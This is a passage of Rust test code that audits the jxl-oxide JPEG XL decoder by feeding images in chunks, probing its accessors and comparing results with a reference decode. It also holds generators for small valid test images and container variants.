            g!(format!("frame_by_keyframe({k})"), image.frame_by_keyframe(k).map(|fr| fr.index()));
        }
        g!("rendered_icc", image.rendered_icc());
        g!("original_icc", image.original_icc().map(|x| x.len()));
        g!("rendered_cicp", image.rendered_cicp());
        g!("pixel_format", image.pixel_format());
        g!("hdr_type", image.hdr_type());
        g!("current_image_region", image.current_image_region());
        g!("aux_boxes().first_exif", exif_str(image));
        g!("aux_boxes().first_xml", aux_str(&image.aux_boxes().first_xml()));
        g!("reader().kind", image.reader().kind());
        // consistency between accessors
        if let Some(Some(_)) = g!("frame(nf-1)", if nf > 0 { Some(image.frame(nf - 1).is_some()) } else { None }) {}
        for i in 0..nf {
            if image.frame_offset(i).is_none() {
                f.add(ctx, format!("frame_offset({i}) is None although {nf} frames are loaded"));
            }
        }
    }
    if opts.jpeg {
        g!("jpeg_reconstruction_status", image.jpeg_reconstruction_status());
        if let Some(Err(e)) = g!("reconstruct_jpeg", image.reconstruct_jpeg(Vec::new())) {
            let class = classify(&*e);
            let _ = class; // any error is acceptable here for non-JPEG images
        }
    }
    if opts.render_frames {
        let nk = image.num_loaded_keyframes();
        for k in 0..nk + 2 {
            match g!(format!("render_frame({k})"), image.render_frame(k).map(|r| planes_of(&r))) {
                Some(Ok(_)) => {
                    f.stat("render_frame ok");
                    if k >= nk {
                        f.add(ctx, format!("render_frame({k}) succeeded although only {nk} keyframes are loaded"));
                    }
                }
                Some(Err(e)) => {
                    if k < nk {
                        f.add(ctx, format!("render_frame({k}) of a LOADED keyframe failed: class {:?}: {e}", classify(&*e)));
                    } else {
                        note_err(f, ctx, &format!("render_frame({k}) beyond the loaded keyframes"), &*e, false);
                    }
                }
                None => {}
            }
        }
    }
    if let Some((l, t, w, h)) = opts.crop {
        g!("set_image_region", { image.set_image_region(CropInfo { left: l, top: t, width: w, height: h }); });
    }
    if opts.render_loading {
        match g!("render_loading_frame", image.render_loading_frame().map(|r| planes_of(&r))) {
            Some(Ok(_)) => f.stat("render_loading_frame ok"),
            Some(Err(e)) => { f.stat(&format!("render_loading_frame {:?}", classify(&*e))); note_err(f, ctx, "render_loading_frame", &*e, false) }
            None => {}
        }
        if opts.crop.is_some() {
            match g!("render_loading_frame_cropped", image.render_loading_frame_cropped().map(|r| planes_of(&r))) {
                Some(Ok(_)) => f.stat("render_loading_frame_cropped ok"),
                Some(Err(e)) => note_err(f, ctx, "render_loading_frame_cropped", &*e, false),
                None => {}
            }
            let nk = image.num_loaded_keyframes();
            for k in 0..nk + 1 {
                match g!(format!("render_frame_cropped({k})"), image.render_frame_cropped(k).map(|r| planes_of(&r))) {
                    Some(Ok(_)) => {}
                    Some(Err(e)) => {
                        if k < nk {
                            f.add(ctx, format!("render_frame_cropped({k}) of a LOADED keyframe failed: class {:?}: {e}", classify(&*e)));
                        } else {
                            note_err(f, ctx, &format!("render_frame_cropped({k})"), &*e, false);
                        }
                    }
                    None => {}
                }
            }
        }
    }
    if opts.restore_full {
        let (w, h) = (image.width(), image.height());
        g!("set_image_region(full)", { image.set_image_region(CropInfo { left: 0, top: 0, width: w, height: h }); });
    }
    let _ = complete;
    ok
}

// ---------------------------------------------------------------------------------------------
// reference decode

pub fn one_shot(data: &[u8], pool: JxlThreadPool) -> Result<Snapshot, String> {
    let mut s = Session::new("one-shot", data, pool);
    if !s.feed_to(data.len()) {
        let mut msg = String::new();
        for (_, (_, ex)) in &s.findings.kinds {
            msg.push_str(ex);
        }
        return Err(msg);
    }
    match s.image() {
        Some(img) => {
            let r = guarded(|| {
                let fin = img.finalize().map_err(|e| format!("finalize: {e}"));
                (fin, snapshot(img))
            });
            match r {
                Ok((Ok(()), snap)) => Ok(snap),
                Ok((Err(e), _)) => Err(e),
                Err(p) => Err(p),
            }
        }
        None => Err("not initialised after all bytes".into()),
    }
}

/// Feed in the given cut points, probing at each; at the end finalize, snapshot and compare with `reference`.
pub fn run_cuts(label: &str, data: &[u8], cuts: &[usize], opts: ProbeOpts, reference: &Snapshot, threads: usize) -> Findings {
    if std::env::var_os("AUDIT_TRACE").is_some() {
        eprintln!("run_cuts {label} cuts {:?} opts {:?}", if cuts.len() <= 8 { cuts.to_vec() } else { vec![cuts.len()] }, opts);
    }
    let mut s = Session::new(label, data, new_pool(threads));
    for &c in cuts {
        if c == 0 || c >= data.len() {
            continue;
        }
        if !s.feed_to(c) {
            return s.findings;
        }
        let ctx = format!("{label} @{c}/{} cuts {:?}", data.len(), if cuts.len() <= 6 { cuts.to_vec() } else { vec![] });
        let mut f = std::mem::take(&mut s.findings);
        let alive = match s.image() {
            Some(img) => probe(img, opts, &ctx, &mut f, false),
            None => true,
        };
        s.findings = f;
        if !alive {
            return s.findings;
        }
    }
    if !s.feed_to(data.len()) {
        return s.findings;
    }
    let ctx = format!("{label} final after cuts {:?} opts {:?}", if cuts.len() <= 6 { cuts.to_vec() } else { vec![cuts.len()] }, opts);
    let mut f = std::mem::take(&mut s.findings);
    match s.image() {
        None => f.add(&ctx, "image not initialised after all bytes were fed".into()),
        Some(img) => {
            match guarded(|| {
                let fin = img.finalize().map_err(|e| format!("{e}"));
                (fin, snapshot(img))
            }) {
                Err(p) => f.add(&ctx, format!("final snapshot: {p}")),
                Ok((Err(e), _)) => f.add(&ctx, format!("finalize failed: {e}")),
                Ok((Ok(()), snap)) => {
                    if let Some(d) = diff_snapshot(reference, &snap) {
                        f.add(&ctx, d);
                    }
                }
            }
        }
    }
    f
}

/// File offsets (approximate for containers: codestream offsets are shifted by the position of the first
/// codestream byte) of frame starts and section starts/ends, from the TOC of a complete decode.
pub fn section_boundaries(data: &[u8]) -> Vec<usize> {
    let mut out = Vec::new();
    let Ok(image) = JxlImage::builder().pool(JxlThreadPool::none()).read(data) else { return out };
    for i in 0..image.num_loaded_frames() {
        let Some(off) = image.frame_offset(i) else { continue };
        let Some(frame) = image.frame(i) else { continue };
        out.push(off);
        for g in frame.toc().iter_bitstream_order() {
            out.push(off + g.offset);
            out.push(off + g.offset + g.size as usize);
        }
    }
    out.sort();
    out.dedup();
    out
}

/// Tiny deterministic PRNG.
pub struct Rng(pub u64);
impl Rng {
    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    pub fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

pub struct SweepCfg {
    /// stride over prefix lengths (1 = every prefix)
    pub stride: usize,
    pub random_runs: usize,
    pub one_byte: bool,
    pub crop: (u32, u32, u32, u32),
    pub threads: usize,
}

/// The whole battery for one file.
pub fn sweep_file(label: &str, data: &[u8], cfg: &SweepCfg) -> Findings {
    crate::install_quiet_hook();
    let mut all = Findings::default();
    let reference = match one_shot(data, new_pool(cfg.threads)) {
        Ok(r) => r,
        Err(e) => {
            all.add(label, format!("one-shot decode of the complete file failed: {e}"));
            return all;
        }
    };
    for r in &reference.renders {
        if let Err(e) = r {
            all.add(label, format!("one-shot render failed: {e}"));
        }
    }
    let n = data.len();
    let modes: [(&str, ProbeOpts); 5] = [
        ("split", ProbeOpts::NONE),
        ("read", ProbeOpts::READ),
        ("all", ProbeOpts::ALL),
        ("crop+restore", ProbeOpts { crop: Some(cfg.crop), restore_full: true, ..ProbeOpts::ALL }),
        ("loading-only", ProbeOpts { accessors: false, render_frames: false, render_loading: true, crop: None, restore_full: false, jpeg: false }),
    ];
    // C11 + C09 (two chunks at each position): every `stride`-th prefix, plus all prefixes around section boundaries
    let mut points: std::collections::BTreeSet<usize> = (1..n).step_by(cfg.stride).collect();
    if cfg.stride > 1 {
        for b in section_boundaries(data) {
            for d in 0..=6 {
                points.insert(b.saturating_sub(3) + d);
            }
        }
    }
    for &p in points.iter().filter(|&&p| p >= 1 && p < n) {
        for (mname, opts) in &modes {
            all.merge(run_cuts(&format!("{label}/{mname}"), data, &[p], *opts, &reference, cfg.threads));
        }
    }
    all.stats.insert("prefix points".into(), points.len());
    // C09: one byte at a time, without and with probes
    if cfg.one_byte {
        let cuts: Vec<usize> = (1..n).collect();
        all.merge(run_cuts(&format!("{label}/1byte"), data, &cuts, ProbeOpts::NONE, &reference, cfg.threads));
        if n <= 6000 {
            all.merge(run_cuts(&format!("{label}/1byte+all"), data, &cuts, ProbeOpts::ALL, &reference, cfg.threads));
        }
    }
    // random chunkings with random probe sets
    let mut rng = Rng(0x9E3779B97F4A7C15 ^ n as u64);
    for run in 0..cfg.random_runs {
        let k = 1 + rng.below(6);
        let mut cuts: Vec<usize> = (0..k).map(|_| 1 + rng.below(n - 1)).collect();
        cuts.sort();
        cuts.dedup();
        let (mname, opts) = modes[rng.below(modes.len())];
        all.merge(run_cuts(&format!("{label}/rand{run}/{mname}"), data, &cuts, opts, &reference, cfg.threads));
    }
    all
}

// ---------------------------------------------------------------------------------------------
// extra interleavings: settings changed while partially loaded must give the same final result as the same
// settings applied to a completely loaded image

pub struct ChunkReader<'a> {
    pub data: &'a [u8],
    pub pos: usize,
    pub rng: Rng,
    pub max: usize,
}

impl std::io::Read for ChunkReader<'_> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        if buf.is_empty() || self.pos >= self.data.len() {
            return Ok(0);
        }
        let n = (1 + self.rng.below(self.max)).min(buf.len()).min(self.data.len() - self.pos);
        buf[..n].copy_from_slice(&self.data[self.pos..self.pos + n]);
        self.pos += n;
        Ok(n)
    }
}

fn settings_snapshot(image: &mut JxlImage, crop: Option<(u32, u32, u32, u32)>, linear: bool) -> Result<Snapshot, String> {
    guarded(|| {
        if let Some((l, t, w, h)) = crop {
            image.set_image_region(CropInfo { left: l, top: t, width: w, height: h });
        }
        if linear {
            image.request_color_encoding(jxl_oxide::EnumColourEncoding::srgb_linear(jxl_oxide::RenderingIntent::Relative));
        }
        snapshot(image)
    })
}

pub fn sweep_extra(label: &str, data: &[u8], cfg: &SweepCfg) -> Findings {
    crate::install_quiet_hook();
    let mut all = Findings::default();
    let n = data.len();
    // references
    let mut refs = Vec::new();
    for (crop, linear) in [(Some(cfg.crop), false), (None, true), (Some(cfg.crop), true)] {
        let mut s = Session::new("ref", data, new_pool(cfg.threads));
        if !s.feed_to(n) { all.add(label, "reference decode failed".into()); return all; }
        let Some(img) = s.image() else { all.add(label, "reference not initialised".into()); return all; };
        let _ = img.finalize();
        match settings_snapshot(img, crop, linear) {
            Ok(snap) => refs.push((crop, linear, snap)),
            Err(e) => { all.add(label, format!("reference snapshot with crop {crop:?} linear {linear}: {e}")); return all; }
        }
    }
    let plain = match one_shot(data, new_pool(cfg.threads)) { Ok(s) => s, Err(e) => { all.add(label, e); return all; } };

    let mut points: std::collections::BTreeSet<usize> = (1..n).step_by(cfg.stride).collect();
    if cfg.stride > 1 {
        for b in section_boundaries(data) { for d in 0..=6 { points.insert(b.saturating_sub(3) + d); } }
    }
    for &p in points.iter().filter(|&&p| p >= 1 && p < n) {
        for (crop, linear, reference) in &refs {
            // settings applied at the prefix (after a loading render), kept until the end
            let lab = format!("{label}/settings@prefix crop {crop:?} linear {linear}");
            let mut s = Session::new(&lab, data, new_pool(cfg.threads));
            if !s.feed_to(p) { all.merge(s.findings); continue; }
            let ctx = format!("{lab} @{p}/{n}");
            let mut f = std::mem::take(&mut s.findings);
            let mut applied = false;
            if let Some(img) = s.image() {
                let _ = guarded(|| img.render_loading_frame().map(|r| planes_of(&r)).map_err(|e| e.to_string())).map_err(|pn| f.add(&ctx, format!("render_loading_frame: {pn}")));
                if let Err(pn) = guarded(|| {
                    if let Some((l, t, w, h)) = *crop { img.set_image_region(CropInfo { left: l, top: t, width: w, height: h }); }
                    if *linear { img.request_color_encoding(jxl_oxide::EnumColourEncoding::srgb_linear(jxl_oxide::RenderingIntent::Relative)); }
                }) { f.add(&ctx, format!("settings: {pn}")); }
                applied = true;
                match guarded(|| img.render_loading_frame().map(|r| planes_of(&r)).map_err(|e| (classify(&*e), e.to_string()))) {
                    Err(pn) => f.add(&ctx, format!("render_loading_frame after settings: {pn}")),
                    Ok(Err((ErrClass::Other, e))) => f.add(&ctx, format!("render_loading_frame after settings: error {e}")),
                    _ => {}
                }
            }
            s.findings = f;
            if !s.feed_to(n) { all.merge(s.findings); continue; }
            let mut f = std::mem::take(&mut s.findings);
            if let Some(img) = s.image() {
                let _ = img.finalize();
                let snap = if applied { guarded(|| snapshot(img)) } else { settings_snapshot(img, *crop, *linear) };
                match snap {
                    Err(pn) => f.add(&ctx, format!("final snapshot: {pn}")),
                    Ok(snap) => if let Some(d) = diff_snapshot(reference, &snap) { f.add(&ctx, d); }
                }
            }
            all.merge(f);
        }
        // finalize() while partially loaded must not panic; and continuing afterwards must not panic either
        {
            let lab = format!("{label}/finalize@prefix");
            let mut s = Session::new(&lab, data, new_pool(cfg.threads));
            if s.feed_to(p) {
                let ctx = format!("{lab} @{p}/{n}");
                let mut f = std::mem::take(&mut s.findings);
                if let Some(img) = s.image() {
                    match guarded(|| img.finalize().map_err(|e| e.to_string())) {
                        Err(pn) => f.add(&ctx, format!("finalize: {pn}")),
                        Ok(Err(_)) | Ok(Ok(())) => {}
                    }
                    probe(img, ProbeOpts::ALL, &ctx, &mut f, false);
                }
                s.findings = Findings::default();
                // continue feeding: any outcome but a panic is tolerated, differences are reported separately
                let alive = s.feed_to(n);
                for (_, (cnt, ex)) in std::mem::take(&mut s.findings).kinds {
                    if ex.contains("PANIC") { for _ in 0..cnt { f.add(&ctx, format!("after early finalize: {ex}")); } }
                }
                if alive {
                    if let Some(img) = s.image() {
                        match guarded(|| { let _ = img.finalize(); snapshot(img) }) {
                            Err(pn) => f.add(&ctx, format!("snapshot after early finalize: {pn}")),
                            Ok(snap) => if let Some(d) = diff_snapshot(&plain, &snap) { f.stat(&format!("early finalize changes the final result: {}", d.chars().filter(|c| !c.is_ascii_digit()).take(60).collect::<String>())); }
                        }
                    }
                }
                all.merge(f);
            } else { all.merge(s.findings); }
        }
    }
    // builder().read() with a reader that returns small chunks
    let mut rng = Rng(12345 + n as u64);
    for run in 0..40 {
        let max = [1usize, 2, 3, 7, 64, 1000, 5000][run % 7];
        let reader = ChunkReader { data, pos: 0, rng: Rng(rng.next() | 1), max };
        let ctx = format!("{label}/read(chunks<= {max})");
        match guarded(|| JxlImage::builder().pool(new_pool(cfg.threads)).read(reader).map(|img| snapshot(&img)).map_err(|e| e.to_string())) {
            Err(pn) => all.add(&ctx, pn),
            Ok(Err(e)) => all.add(&ctx, format!("read() failed: {e}")),
            Ok(Ok(snap)) => if let Some(d) = diff_snapshot(&plain, &snap) { all.add(&ctx, d); }
        }
    }
    all
}

// ---------------------------------------------------------------------------------------------
// arbitrary (possibly malformed) files: no panic at any moment, and the outcome must not depend on the chunking

#[derive(Debug, Clone, PartialEq)]
pub enum Outcome {
    FeedError(String),
    InitError(String),
    Uninit,
    Loaded(Box<Snapshot>),
    Panic(String),
}

impl Outcome {
    pub fn brief(&self) -> String {
        match self {
            Outcome::Loaded(s) => format!("Loaded(frames {}, keyframes {}, done {}, renders {:?})", s.n_frames, s.n_keyframes, s.loading_done, s.renders.iter().map(|r| match r { Ok(_) => "ok".to_string(), Err(e) => e.chars().take(60).collect() }).collect::<Vec<_>>()),
            o => format!("{o:?}").chars().take(160).collect(),
        }
    }
}

/// Feed with the given cuts; at each cut call everything (panics are findings, errors are not).
pub fn outcome_with_cuts(label: &str, data: &[u8], cuts: &[usize], opts: ProbeOpts, f: &mut Findings) -> Outcome {
    let mut u = Some(JxlImage::builder().pool(JxlThreadPool::none()).build_uninit());
    let mut img: Option<JxlImage> = None;
    let mut pos = 0usize;
    let mut stops: Vec<usize> = cuts.iter().copied().filter(|&c| c > 0 && c < data.len()).collect();
    stops.push(data.len());
    for &stop in &stops {
        let ctx = format!("{label} @{stop}/{}", data.len());
        loop {
            if pos >= stop { break; }
            let chunk = &data[pos..stop];
            let r = if let Some(i) = img.as_mut() {
                guarded(|| i.feed_bytes(chunk).map_err(|e| e.to_string()))
            } else {
                let uu = u.as_mut().unwrap();
                guarded(|| uu.feed_bytes(chunk).map_err(|e| e.to_string()))
            };
            match r {
                Err(p) => { f.add(&ctx, format!("feed_bytes: {p}")); return Outcome::Panic(p); }
                Ok(Err(e)) => return Outcome::FeedError(e),
                Ok(Ok(c)) => { pos += c; if c == 0 { break; } }
            }
        }
        if img.is_none() {
            let uu = u.take().unwrap();
            match guarded(|| uu.try_init().map_err(|e| e.to_string())) {
                Err(p) => { f.add(&ctx, format!("try_init: {p}")); return Outcome::Panic(p); }
                Ok(Err(e)) => return Outcome::InitError(e),
                Ok(Ok(InitializeResult::NeedMoreData(x))) => u = Some(x),
                Ok(Ok(InitializeResult::Initialized(i))) => img = Some(i),
            }
        }
        if stop < data.len() {
            if let Some(i) = img.as_mut() {
                let mut scratch = Findings::default();
                if !probe(i, opts, &ctx, &mut scratch, false) {
                    for (_, (n, ex)) in scratch.kinds { if ex.contains("PANIC") { for _ in 0..n { f.add(&ctx, ex.clone()); } } }
                    return Outcome::Panic("probe".into());
                }
            }
        }
    }
    match img.as_mut() {
        None => Outcome::Uninit,
        Some(i) => match guarded(|| { let _ = i.finalize(); snapshot(i) }) {
            Ok(s) => Outcome::Loaded(Box::new(s)),
            Err(p) => { f.add(label, format!("final snapshot: {p}")); Outcome::Panic(p) }
        },
    }
}

pub fn sweep_arbitrary(label: &str, data: &[u8], stride: usize) -> Findings {
    crate::install_quiet_hook();
    let mut f = Findings::default();
    let reference = outcome_with_cuts(label, data, &[], ProbeOpts::NONE, &mut f);
    f.stats.insert(format!("one-shot: {}", reference.brief()), 1);
    let n = data.len();
    let mut p = 1;
    while p < n {
        for (mname, opts) in [("split", ProbeOpts::NONE), ("all", ProbeOpts::ALL)] {
            let o = outcome_with_cuts(&format!("{label}/{mname}"), data, &[p], opts, &mut f);
            if o != reference && !matches!(o, Outcome::Panic(_)) {
                let d = match (&reference, &o) {
                    (Outcome::Loaded(a), Outcome::Loaded(b)) => diff_snapshot(a, b).unwrap_or_default(),
                    _ => format!("one-shot {} vs {}", reference.brief(), o.brief()),
                };
                f.add(&format!("{label}/{mname} cut {p}"), format!("outcome depends on chunking / calls at the cut: {d}"));
            }
        }
        p += stride;
    }
    let cuts: Vec<usize> = (1..n).collect();
    if n <= 3000 {
        let o = outcome_with_cuts(&format!("{label}/1byte"), data, &cuts, ProbeOpts::NONE, &mut f);
        if o != reference && !matches!(o, Outcome::Panic(_)) {
            f.add(&format!("{label}/1byte"), format!("outcome depends on chunking: one-shot {} vs {}", reference.brief(), o.brief()));
        }
    }
    f
}

//! Audit G: the set of valid test images.
use crate::*;

pub fn pat(c: usize, x: u32, y: u32) -> i32 { ((x * 7 + y * 13 + (c as u32) * 31 + (x * y) % 5 * 9) % 200 + 20) as i32 }
pub fn pat2(c: usize, x: u32, y: u32) -> i32 { ((x * 11 + y * 5 + (c as u32) * 17 + (x + y) % 3 * 20) % 180 + 30) as i32 }
pub fn pat3(c: usize, x: u32, y: u32) -> i32 { ((x * 3 + y * 17 + (c as u32) * 41 + (x ^ y) % 7 * 11) % 150 + 60) as i32 }
/// residuals in {0,-1} for entropy mode 1
pub fn bits(c: usize, x: u32, y: u32) -> i32 { let h = (x.wrapping_mul(2654435761) ^ y.wrapping_mul(40503) ^ (c as u32).wrapping_mul(977)).wrapping_mul(2246822519); if (h >> 13) % 5 < 3 { -1 } else { 0 } }

pub struct Case { pub name: &'static str, pub bytes: Vec<u8>, pub width: u32, pub height: u32 }

fn case(name: &'static str, img: &ImageSpec, bytes: Vec<u8>) -> Case {
    let (w, h) = if img.orientation >= 5 { (img.height, img.width) } else { (img.width, img.height) };
    Case { name, bytes, width: w, height: h }
}

pub fn single() -> Case {
    let img = ImageSpec::rgb(24, 20);
    let mut f = FrameSpec::new(&img);
    f.fill(&img, pat);
    case("single", &img, encode_image(&img, &[f]))
}

pub fn single_gray_oriented() -> Case {
    let mut img = ImageSpec::rgb(21, 13);
    img.gray = true;
    img.orientation = 6;
    let mut f = FrameSpec::new(&img);
    f.fill(&img, pat);
    case("gray_orient6", &img, encode_image(&img, &[f]))
}

pub fn animation() -> Case {
    let mut img = ImageSpec::rgb(16, 12);
    img.animation = true;
    let mut f0 = FrameSpec::new(&img);
    f0.duration = 1; f0.is_last = false; f0.fill(&img, pat);
    // zero-duration layer, cropped, added on top of frame 0 (slot 0)
    let mut f1 = FrameSpec::new(&img);
    f1.duration = 0; f1.is_last = false; f1.crop = Some((3, 2, 9, 7));
    f1.blend = BlendSpec { mode: 1, alpha_channel: 0, clamp: false, source: 0 };
    f1.fill(&img, |c, x, y| ((x + y + c as u32) % 9) as i32);
    let mut f2 = FrameSpec::new(&img);
    f2.duration = 2; f2.is_last = false; f2.crop = Some((-2, 5, 10, 10));
    f2.blend = BlendSpec { mode: 0, alpha_channel: 0, clamp: false, source: 0 };
    f2.fill(&img, pat2);
    let mut f3 = FrameSpec::new(&img);
    f3.duration = 3; f3.is_last = true; f3.fill(&img, pat3);
    case("animation", &img, encode_image(&img, &[f0, f1, f2, f3]))
}

pub fn blend_ref() -> Case {
    let mut img = ImageSpec::rgb(20, 18);
    img.ec.push(EcSpec { ty: 0, dim_shift: 0, alpha_associated: false });
    let mut f0 = FrameSpec::new(&img);
    f0.is_last = false; f0.save_as_reference = 1;
    f0.fill(&img, |c, x, y| if c == 3 { 255 } else { pat(c, x, y) });
    let mut f1 = FrameSpec::new(&img);
    f1.crop = Some((4, 3, 12, 11));
    f1.blend = BlendSpec { mode: 2, alpha_channel: 0, clamp: true, source: 1 };
    f1.ec_blend[0] = BlendSpec { mode: 2, alpha_channel: 0, clamp: true, source: 1 };
    f1.fill(&img, |c, x, y| if c == 3 { ((x * 20 + y * 3) % 256) as i32 } else { pat2(c, x, y) });
    case("blend_ref", &img, encode_image(&img, &[f0, f1]))
}

pub fn patches() -> Case {
    let mut img = ImageSpec::rgb(24, 24);
    img.ec.push(EcSpec { ty: 1, dim_shift: 0, alpha_associated: false });
    let mut r = FrameSpec::new(&img);
    r.frame_type = 2; r.is_last = false; r.save_as_reference = 1; r.save_before_ct = true;
    r.crop = Some((0, 0, 8, 8));
    r.fill(&img, |c, x, y| (130 + 10 * y + x + 3 * c as u32) as i32);
    let mut f = FrameSpec::new(&img);
    f.flags = 2;
    f.patches.push(PatchSpec { ref_idx: 1, x0: 1, y0: 1, width: 5, height: 3, targets: vec![(3, 5, vec![1, 1]), (12, 14, vec![0, 0])] });
    f.fill(&img, pat);
    case("patches", &img, encode_image(&img, &[r, f]))
}

pub fn alpha() -> Case {
    let mut img = ImageSpec::rgb(18, 14);
    img.ec.push(EcSpec { ty: 0, dim_shift: 0, alpha_associated: true });
    img.ec.push(EcSpec { ty: 1, dim_shift: 1, alpha_associated: false });
    let mut f = FrameSpec::new(&img);
    f.fill(&img, pat);
    case("alpha+depth_ds1", &img, encode_image(&img, &[f]))
}

pub fn upsampling2() -> Case {
    let mut img = ImageSpec::rgb(22, 18);
    img.ec.push(EcSpec { ty: 0, dim_shift: 0, alpha_associated: false });
    let mut f = FrameSpec::new(&img);
    f.upsampling = 2; f.ec_upsampling = vec![4];
    f.fill(&img, pat);
    case("upsampling2_ec4", &img, encode_image(&img, &[f]))
}

pub fn gab_epf() -> Case {
    let img = ImageSpec::rgb(20, 16);
    let mut f = FrameSpec::new(&img);
    f.gab = true; f.epf_iters = 2;
    f.fill(&img, pat);
    case("gab_epf2", &img, encode_image(&img, &[f]))
}

fn grad_tree() -> Tree { Tree::leaf(1, 1) }

fn groups_frame(img: &ImageSpec) -> FrameSpec {
    let mut f = FrameSpec::new(img);
    f.group_size_shift = 0;
    f.tree = Some(grad_tree());
    f.entropy = 1;
    f.fill(img, bits);
    f
}

pub fn groups() -> Case {
    let mut img = ImageSpec::rgb(200, 150);
    img.gray = true;
    let f = groups_frame(&img);
    case("groups_2x2", &img, encode_image(&img, &[f]))
}

pub fn groups_permuted() -> Case {
    let mut img = ImageSpec::rgb(200, 150);
    img.gray = true;
    let mut f = groups_frame(&img);
    // sections: LfGlobal, LfGroup0, HfGlobal, G0..G3  -> LfGlobal, the groups in reverse order, LfGroup, HfGlobal
    f.permutation = Some(vec![0, 5, 6, 4, 3, 2, 1]);
    case("groups_2x2_permuted", &img, encode_image(&img, &[f]))
}

pub fn groups_rgb_alpha_two_frames() -> Case {
    let mut img = ImageSpec::rgb(140, 130);
    img.ec.push(EcSpec { ty: 0, dim_shift: 1, alpha_associated: false });
    let mut f0 = groups_frame(&img);
    f0.is_last = false; f0.save_as_reference = 2;
    let mut f1 = groups_frame(&img);
    f1.crop = Some((10, -6, 135, 131));
    f1.blend = BlendSpec { mode: 2, alpha_channel: 0, clamp: false, source: 2 };
    f1.ec_blend[0] = BlendSpec { mode: 2, alpha_channel: 0, clamp: false, source: 2 };
    f1.fill(&img, |c, x, y| bits(c + 5, x, y));
    f1.permutation = Some({ let n = toc_entries(&img, &f1); (0..n).rev().collect() });
    case("groups_rgba_2frames", &img, encode_image(&img, &[f0, f1]))
}

pub fn passes2() -> Case {
    let img = ImageSpec::rgb(20, 10);
    let mut f = FrameSpec::new(&img);
    f.num_passes = 2;
    f.fill(&img, pat);
    case("passes2_small", &img, encode_image(&img, &[f]))
}

pub fn passes3_groups() -> Case {
    let mut img = ImageSpec::rgb(150, 140);
    img.gray = true;
    let mut f = groups_frame(&img);
    f.num_passes = 3;
    case("passes3_groups", &img, encode_image(&img, &[f]))
}

pub fn srgb_icc() -> Vec<u8> {
    // the profile jxl-oxide synthesises for Display P3
    let img = ImageSpec::rgb(1, 1);
    let mut f = FrameSpec::new(&img);
    f.fill(&img, |_, _, _| 0);
    let mut image = open(&encode_image(&img, &[f]));
    image.request_color_encoding(jxl_oxide::EnumColourEncoding::display_p3(jxl_oxide::RenderingIntent::Relative));
    image.rendered_icc()
}

pub fn icc() -> Case {
    let mut img = ImageSpec::rgb(12, 10);
    img.icc = Some(srgb_icc());
    let mut f = FrameSpec::new(&img);
    f.fill(&img, pat);
    case("icc", &img, encode_image(&img, &[f]))
}

pub fn preview() -> Case {
    let mut img = ImageSpec::rgb(14, 12);
    img.preview = Some((7, 6));
    // NOTE: the decoder parses the preview frame with the dimensions of the main image
    let mut p = FrameSpec::new(&img);
    p.fill(&img, pat2);
    let mut f = FrameSpec::new(&img);
    f.fill(&img, pat);
    case("preview", &img, encode_image_ex(&img, Some(&p), &[f]).0)
}

pub fn skip_progressive_refonly() -> Case {
    let mut img = ImageSpec::rgb(16, 16);
    img.ec.push(EcSpec { ty: 0, dim_shift: 0, alpha_associated: false });
    // regular zero-duration frame at an offset, saved in slot 1
    let mut f0 = FrameSpec::new(&img);
    f0.is_last = false; f0.save_as_reference = 1; f0.crop = Some((5, 4, 8, 9));
    f0.blend = BlendSpec { mode: 1, alpha_channel: 0, clamp: false, source: 1 };
    f0.ec_blend[0] = BlendSpec { mode: 1, alpha_channel: 0, clamp: false, source: 1 };
    f0.fill(&img, |c, x, y| if c == 3 { 200 } else { pat(c, x, y) / 2 });
    // reference-only frame in slot 0
    let mut r = FrameSpec::new(&img);
    r.frame_type = 2; r.is_last = false; r.save_as_reference = 0; r.save_before_ct = false;
    r.fill(&img, |c, x, y| if c == 3 { 255 } else { pat3(c, x, y) / 2 });
    // skip-progressive last frame blending over slot 1
    let mut f1 = FrameSpec::new(&img);
    f1.frame_type = 3; f1.crop = Some((2, 1, 10, 12));
    f1.blend = BlendSpec { mode: 1, alpha_channel: 0, clamp: false, source: 1 };
    f1.ec_blend[0] = BlendSpec { mode: 0, alpha_channel: 0, clamp: false, source: 0 };
    f1.fill(&img, |c, x, y| if c == 3 { 100 } else { pat2(c, x, y) / 4 });
    case("skipprog_refonly", &img, encode_image(&img, &[f0, r, f1]))
}

pub fn exif_payload() -> Vec<u8> {
    let mut v = vec![0, 0, 0, 0];
    v.extend_from_slice(b"II*\0\x08\0\0\0\0\0\0\0\0\0");
    v
}

pub fn container(variant: u32) -> Case {
    let img = ImageSpec::rgb(12, 9);
    let mut f = FrameSpec::new(&img);
    f.fill(&img, pat);
    let cs = encode_image(&img, &[f]);
    let (a, b) = (7.min(cs.len()), cs.len() / 2);
    let xml = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'/>".to_vec();
    let mut out = container_prelude();
    let name: &'static str;
    match variant {
        0 => {
            name = "container_jxlp3_exif_xml";
            out.extend(make_box(b"jxll", &[5], 0));
            out.extend(make_box(b"Exif", &exif_payload(), 0));
            out.extend(jxlp_box(0, false, &cs[..a], 0));
            out.extend(make_box(b"xml ", &xml, 0));
            out.extend(jxlp_box(1, false, &cs[a..b], 1));
            out.extend(jxlp_box(2, true, &cs[b..], 0));
        }
        1 => {
            name = "container_jxlp_last_open_ended";
            out.extend(jxlp_box(0, false, &cs[..a], 0));
            out.extend(make_box(b"Exif", &exif_payload(), 1));
            out.extend(jxlp_box(1, false, &[], 0));
            out.extend(make_box(b"xml ", &xml, 0));
            out.extend(jxlp_box(2, true, &cs[a..], 2));
        }
        2 => {
            name = "container_jxlc_then_trailing_boxes";
            out.extend(make_box(b"jxlc", &cs, 0));
            out.extend(make_box(b"xml ", &xml, 0));
            out.extend(make_box(b"Exif", &exif_payload(), 0));
            out.extend(make_box(b"xml ", b"second", 0));
        }
        3 => {
            name = "container_brob_exif_xml";
            out.extend(brob_box(b"Exif", &exif_payload()));
            out.extend(jxlp_box(0, false, &cs[..b], 0));
            out.extend(brob_box(b"xml ", &xml));
            out.extend(jxlp_box(1, true, &cs[b..], 0));
            out.extend(make_box(b"Exif", b"\0\0\0\x01XYZW", 2));
        }
        5 => {
            name = "container_jbrd_minimal";
            let mut w = BitWriter::new();
            w.bits(0, 1); // is_gray
            w.bits(0x19, 6); // EOI marker
            w.bits(0, 2); // one quant table
